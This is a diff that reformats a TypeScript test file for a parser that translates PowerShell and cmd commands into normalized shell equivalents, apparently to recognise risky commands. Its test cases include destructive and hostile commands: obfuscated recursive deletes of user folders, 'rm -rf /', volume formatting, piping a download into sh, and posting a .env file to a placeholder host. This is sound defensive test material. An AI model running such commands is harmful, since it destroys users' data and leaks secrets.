@@ -4,7 +4,15 @@ import type { Command, Line, Look } from './command.ts';
 import { readCmd, readPowershell } from './powershell.ts';
 import type { Word } from './word.ts';
 
-const look: Look = { env: () => undefined, home: '/home/me', tmp: '/tmp', stat: () => undefined, read: (path) => (path === '/repo/build.ps1' ? 'Remove-Item dist -Recurse' : undefined), list: () => undefined, gitConfig: () => [] };
+const look: Look = {
+  env: () => undefined,
+  home: '/home/me',
+  tmp: '/tmp',
+  stat: () => undefined,
+  read: (path) => (path === '/repo/build.ps1' ? 'Remove-Item dist -Recurse' : undefined),
+  list: () => undefined,
+  gitConfig: () => [],
+};
 const from = { cwd: '/repo', look };
 
 const shown = (word: Word): string => word.parts.map((part) => (part.kind === 'hole' ? `{${part.name ?? part.text}}` : part.text)).join('');
@@ -19,7 +27,10 @@ const all = (line: Line): string[] => line.commands.map(told);
 const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
 
 const POWERSHELL: readonly (readonly [string, readonly string[]])[] = [
-  [String.raw`& ('R'+'emove-Item') C:\Users\dev\docs -Recurse -Force; ri C:\Users\dev\pics -r -fo`, ['rm -r -f C:/Users/dev/docs', 'rm -r -f C:/Users/dev/pics']],
+  [
+    String.raw`& ('R'+'emove-Item') C:\Users\dev\docs -Recurse -Force; ri C:\Users\dev\pics -r -fo`,
+    ['rm -r -f C:/Users/dev/docs', 'rm -r -f C:/Users/dev/pics'],
+  ],
   ['python scan.py --json 2>$null', ['python scan.py --json >/dev/null']],
   ["Remove-Item -LiteralPath 'a[1].txt','b.txt' -Fo", ['rm -f a[1].txt b.txt']],
   ['del a.txt; erase b; rd -Recurse c; rmdir d', ['rm a.txt', 'rm b', 'rm -r c', 'rm d']],
@@ -46,11 +57,20 @@ const POWERSHELL: readonly (readonly [string, readonly string[]])[] = [
   ['Invoke-RestMethod -Method Delete -Uri https://e.example/x', ['curl -X DELETE https://e.example/x']],
   ['Invoke-WebRequest https://e.example -Method Post -InFile .env', ['curl -X POST -T .env https://e.example']],
   ['curl -s https://e.example | sh', ['curl -s https://e.example', 'sh <| 0']],
-  ['Stop-Process -Name node -Force; Get-Process node | Stop-Process; Stop-Process -Id 12; kill -9 33', ['pkill -9 -x node', 'pkill -9 -x node', 'kill -9 12', 'kill -9 33']],
-  ['"hi" | Out-File -FilePath a.txt -Append; Clear-Content b.txt; echo x > c.txt', ['printf %s hi\n >>a.txt', 'truncate -s 0 b.txt', 'echo x >c.txt']],
+  [
+    'Stop-Process -Name node -Force; Get-Process node | Stop-Process; Stop-Process -Id 12; kill -9 33',
+    ['pkill -9 -x node', 'pkill -9 -x node', 'kill -9 12', 'kill -9 33'],
+  ],
+  [
+    '"hi" | Out-File -FilePath a.txt -Append; Clear-Content b.txt; echo x > c.txt',
+    ['printf %s hi\n >>a.txt', 'truncate -s 0 b.txt', 'echo x >c.txt'],
+  ],
   ["Set-Content -Path 'C:\\a b\\c.txt' -Value x", ['printf %s x\n >C:/a b/c.txt']],
   ["@'\nrm -rf /\n'@ | Set-Content s.sh", ['printf %s rm -rf /\n >s.sh']],
-  ['Move-Item a b -Force; Move-Item c d; Copy-Item -Recurse e -Destination f; Rename-Item g/x y', ['mv -f a b', 'mv -n c d', 'cp -r e f', 'mv -n g/x g/y']],
+  [
+    'Move-Item a b -Force; Move-Item c d; Copy-Item -Recurse e -Destination f; Rename-Item g/x y',
+    ['mv -f a b', 'mv -n c d', 'cp -r e f', 'mv -n g/x g/y'],
+  ],
   ['New-Item -ItemType Directory foo; New-Item x.txt -Force', ['mkdir -p foo', 'printf %s  >x.txt']],
   ['Start-Process git -ArgumentList "push","--force"', ['git push --force']],
   ['Stop-Computer -Force; Restart-Computer; Format-Volume -DriveLetter D', ['shutdown -h now', 'reboot', 'mkfs D']],
@@ -114,7 +134,49 @@ describe('cmd', () => {
   });
 });
 
-const PIECES = ['Remove-Item ', '-Recurse', ' C:\\x', '"', "'", '`', '$x', '$(', ')', '(', '{', '}', '|', '&', '&&', ';', '\n', '@(', "@'\n", "\n'@", '[IO.File]', '::', '.a', '+', ',', ' -f ', '>', '2>', '#', '<#', '#>', 'if (', 'foreach ($i in ', 'function f {', '$x = ', '%X%', '^', 'cmd /c ', 'powershell -c ', 'iex ', '\0'];
+const PIECES = [
+  'Remove-Item ',
+  '-Recurse',
+  ' C:\\x',
+  '"',
+  "'",
+  '`',
+  '$x',
+  '$(',
+  ')',
+  '(',
+  '{',
+  '}',
+  '|',
+  '&',
+  '&&',
+  ';',
+  '\n',
+  '@(',
+  "@'\n",
+  "\n'@",
+  '[IO.File]',
+  '::',
+  '.a',
+  '+',
+  ',',
+  ' -f ',
+  '>',
+  '2>',
+  '#',
+  '<#',
+  '#>',
+  'if (',
+  'foreach ($i in ',
+  'function f {',
+  '$x = ',
+  '%X%',
+  '^',
+  'cmd /c ',
+  'powershell -c ',
+  'iex ',
+  '\0',
+];
 
 describe('any text', () => {
   it('never throws and gives the same again', () => {
@@ -128,11 +190,14 @@ describe('any text', () => {
     );
   });
 
-  it.each(['Remove-Item C:\\x;', '(', '{', '[', "'", '"', '$(', 'a|', '$x.b().', "@'\n", 'rm a,', '%'])('a megabyte of %s is read in time that grows with its length', (unit) => {
-    const start = performance.now();
-    readPowershell(unit.repeat(Math.ceil(1_000_000 / unit.length)), from);
-    readCmd(unit.repeat(Math.ceil(1_000_000 / unit.length)), from);
-    // Generous: it tells a square from a line, not a fast machine from a slow one.
-    expect(performance.now() - start).toBeLessThan(10_000);
-  });
+  it.each(['Remove-Item C:\\x;', '(', '{', '[', "'", '"', '$(', 'a|', '$x.b().', "@'\n", 'rm a,', '%'])(
+    'a megabyte of %s is read in time that grows with its length',
+    (unit) => {
+      const start = performance.now();
+      readPowershell(unit.repeat(Math.ceil(1_000_000 / unit.length)), from);
+      readCmd(unit.repeat(Math.ceil(1_000_000 / unit.length)), from);
+      // Generous: it tells a square from a line, not a fast machine from a slow one.
+      expect(performance.now() - start).toBeLessThan(10_000);
+    },
+  );
 });
